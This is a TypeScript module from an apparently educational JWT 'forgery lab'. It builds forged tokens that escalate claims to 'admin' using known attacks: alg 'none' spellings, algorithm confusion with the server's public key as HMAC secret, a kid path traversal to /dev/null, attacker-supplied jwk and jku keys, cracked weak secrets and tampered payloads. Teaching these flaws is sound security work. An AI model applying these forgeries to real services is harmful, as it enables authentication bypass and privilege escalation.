/**
 * Each forgery of the lab, built from an original token: the header and payload to send (the page
 * shows both for editing, as jwt.io does) and how to sign them. `signCompact` then turns the
 * (possibly edited) plan into the token.
 *
 * Teaches: the attacker starts from a genuine token — their own, or one they stole — and changes
 * only what the verifier trusts: `alg`, `kid`, `jwk`, `jku`, or nothing but the claims.
 *
 * Flow step ids: none (browser-side helpers of the forgery lab).
 * Reference: RFC 7515 §4.1.1 (alg), §4.1.2 (jku), §4.1.3 (jwk), §4.1.4 (kid); RFC 8725 §2.1, §2.9.
 */
import type { ForgeryId } from './forgeries.ts';
import type { CompactParts, JsonObject } from './jose-segments.ts';
import type { ForgedSignature, WebCryptoKey } from './sign-compact.ts';

/** A `kid` that climbs out of any key directory to a file every Unix machine has, and is empty. */
export const TRAVERSAL_KID = '../../../../../../../dev/null';
/** The kid of the attacker's own key, in the `jwk` header or the attacker site's JWK Set. */
export const ATTACKER_KID = 'attacker-key';

/** What the attacker brings: each forgery needs at most one of these. */
export interface ForgeryMaterial {
  /** alg-none: the spelling to try ('none', 'None', 'NONE', 'nOnE'…). */
  readonly noneSpelling?: string;
  /** alg-confusion: the server's ES256 public key as PEM text. */
  readonly publicKeyPem?: string;
  /** embedded-jwk and jku: the attacker's P-256 key pair and its public JWK. */
  readonly attackerPrivateKey?: WebCryptoKey;
  readonly attackerPublicJwk?: JsonObject;
  /** jku: where the attacker site serves a JWK Set with that key. */
  readonly jkuUrl?: string;
  /** weak-secret: the secret the cracker found. */
  readonly crackedSecret?: string;
}

export interface ForgeryPlan {
  readonly header: JsonObject;
  readonly payload: JsonObject;
  readonly signature: ForgedSignature;
}

function needed<T>(value: T | undefined, what: string): T {
  if (value === undefined) throw new Error(`This forgery needs ${what}.`);
  return value;
}

/** The original claims with the privilege the attacker wants. */
export function escalateClaims(payload: JsonObject): JsonObject {
  return { ...payload, role: 'admin' };
}

export function planForgery(
  id: ForgeryId,
  original: CompactParts,
  material: ForgeryMaterial = {},
): ForgeryPlan {
  const header = original.header;
  const payload = escalateClaims(original.payload);
  const utf8 = (text: string) => new TextEncoder().encode(text);
  switch (id) {
    case 'alg-none':
      return {
        header: { ...header, alg: material.noneSpelling ?? 'none' },
        payload,
        signature: { kind: 'none' },
      };
    case 'alg-confusion':
      return {
        header: { ...header, alg: 'HS256' },
        payload,
        signature: { kind: 'hmac', secret: utf8(needed(material.publicKeyPem, 'a public key')) },
      };
    case 'kid-traversal':
      return {
        header: { ...header, alg: 'HS256', kid: TRAVERSAL_KID },
        payload,
        signature: { kind: 'hmac', secret: new Uint8Array(0) },
      };
    case 'embedded-jwk':
    case 'jku': {
      const privateKey = needed(material.attackerPrivateKey, 'the attacker key');
      const keyHeader =
        id === 'jku'
          ? { jku: needed(material.jkuUrl, 'a jku URL') }
          : { jwk: needed(material.attackerPublicJwk, 'the attacker public JWK') };
      return {
        header: { ...header, alg: 'ES256', kid: ATTACKER_KID, ...keyHeader },
        payload,
        signature: { kind: 'es256', privateKey },
      };
    }
    case 'weak-secret':
      return {
        header,
        payload,
        signature: { kind: 'hmac', secret: utf8(needed(material.crackedSecret, 'a secret')) },
      };
    case 'tampered-payload':
      return { header, payload, signature: { kind: 'original', signature: original.signature } };
  }
}
